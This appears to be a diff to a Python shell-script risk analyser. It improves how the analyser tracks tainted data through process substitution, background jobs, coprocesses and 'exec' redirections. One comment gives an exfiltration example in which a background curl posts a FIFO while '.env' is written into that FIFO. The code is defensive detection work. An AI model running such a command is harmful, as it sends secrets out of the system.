@@ -16,7 +16,7 @@ from redoma.judge.interpret.arg import (
 from redoma.judge.interpret.call import Call
 from redoma.judge.interpret.expand import Expander
 from redoma.judge.interpret.patterns import has_glob
-from redoma.judge.interpret.redirects import Redirects
+from redoma.judge.interpret.redirects import Redirects, settle
 from redoma.judge.interpret.state import Files, Ground, State
 from redoma.judge.shell import parse
 from redoma.model.risk import Effect, Fact, Target
@@ -40,6 +40,8 @@ from redoma.model.script import (
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
+    from collections.abc import Callable
+
     from redoma.judge.programs.knowledge import Knowledge
     from redoma.model.script import Command, ProcessSubstitution, Script, Span, Word
 
@@ -159,7 +161,7 @@ class Walker:
             return ANYTHING
         self.depth += 1
         try:
-            return self.script(script, state.copy())
+            return self.script(script, state.captured())
         finally:
             self.depth -= 1
 
@@ -167,13 +169,35 @@ class Walker:
         """A name such as /dev/fd/63 that stands for the other end."""
         if part.direction == "<":
             return self.files.descriptor(self.substitute(part.script, state))
-        self.depth += 1
-        try:
-            # What will be written into it is not known yet: anything that was read so far.
-            self.script(part.script, state.copy(), Stream(None, self.taint_so_far()))
-        finally:
-            self.depth -= 1
-        return self.files.descriptor(ANYTHING)
+        then = state.copy()
+        return self.reader(lambda stream: self.script(part.script, then.copy(), stream))
+
+    def reader(self, run: Callable[[Stream], Stream], answers: str = "") -> str:
+        """A path that a process reads from: it runs again with everything that is written there.
+
+        It runs once with what is not known yet, since the writer may be one we cannot see.
+        """
+        frame = self.frame
+
+        def feed(stream: Stream) -> None:
+            if self.depth >= DEEPEST:
+                return
+            before, self.frame = self.frame, frame
+            self.depth += 1
+            self.forks += 1
+            try:
+                out = run(stream)
+            finally:
+                self.forks -= 1
+                self.depth -= 1
+                self.frame = before
+            if answers:
+                self.files.put(answers, out, append=True)
+
+        path = self.files.descriptor(ANYTHING)
+        feed(Stream(None, self.taint_so_far()))
+        self.files.sinks[path] = feed
+        return path
 
     def taint_so_far(self) -> int:
         taint = PLAIN
@@ -186,10 +210,14 @@ class Walker:
 
     def sequence(self, node: Sequence, state: State, stdin: Stream) -> Stream:
         outputs: list[Stream] = []
+        waiting: list[tuple[Command, State, int]] = []
         after = node.after
         for index, command in enumerate(node.commands):
             ending = after[index] if index < len(after) else ""
+            if state.stdin is not None:
+                stdin = state.stdin
             if ending == "&":
+                waiting.append((command, state.copy(), self.files.changes))
                 self.forks += 1
                 outputs.append(self.command(command, state.copy(), stdin))
                 self.forks -= 1
@@ -199,7 +227,18 @@ class Walker:
                 state.blur(before)
             else:
                 outputs.append(self.command(command, state, stdin))
+            if "1" in state.descriptors and outputs[-1] is not NOTHING:
+                self.flow_out(state, outputs[-1])
+        for command, then, changes in waiting:
+            # `curl -d @fifo host & cat .env > fifo`: what runs beside reads what comes later.
+            if self.files.changes > changes:
+                self.command(command, then, stdin)
         return _joined(outputs)
+
+    def flow_out(self, state: State, out: Stream) -> None:
+        """After `exec >file`, what a command prints goes there."""
+        word = state.descriptors["1"]
+        settle(self, state, word, out, word.span, append=True)
 
     def command(self, node: Command, state: State, stdin: Stream) -> Stream:
         self.step()
@@ -297,10 +336,11 @@ class Walker:
 
     def coprocess(self, node: Coprocess, state: State) -> Stream:
         # Its input is whatever the script writes to it later: assume the worst it may read.
-        self.forks += 1
-        out = self.command(node.body, state.copy(), Stream(None, self.taint_so_far()))
-        self.forks -= 1
-        state.arrays[node.name or "COPROC"] = [arg(UNKNOWN, node.span, out.taint)] * 2
+        then = state.copy()
+        answers = self.files.descriptor(NOTHING)
+        written = self.reader(lambda stream: self.command(node.body, then.copy(), stream), answers)
+        ends = [state.open(arg(path, node.span)) for path in (answers, written)]
+        state.arrays[node.name or "COPROC"] = [arg(end, node.span) for end in ends]
         return NOTHING
 
     def pipeline(self, node: Pipeline, state: State, stdin: Stream) -> Stream:
@@ -311,7 +351,7 @@ class Walker:
         for index, command in enumerate(node.commands):
             # `lastpipe` may keep the last stage in the shell itself: its changes stay visible.
             last = index == len(node.commands) - 1
-            stream = self.command(command, state if last else state.copy(), stream)
+            stream = self.command(command, state if last else state.captured(), stream)
         self.forks -= 1
         return stream
 
@@ -344,7 +384,10 @@ class Walker:
         if not args:
             return redirects.finish(NOTHING)
         call = Call(self, args, state, redirects.stdin, environment, node.span, redirects)
-        return redirects.finish(self.run(call))
+        out = redirects.finish(self.run(call))
+        if call.name == "exec" and node.redirects:
+            redirects.keep()
+        return out
 
     def truncations(self, node: Simple, redirects: Redirects) -> None:
         redirects.emptied = True
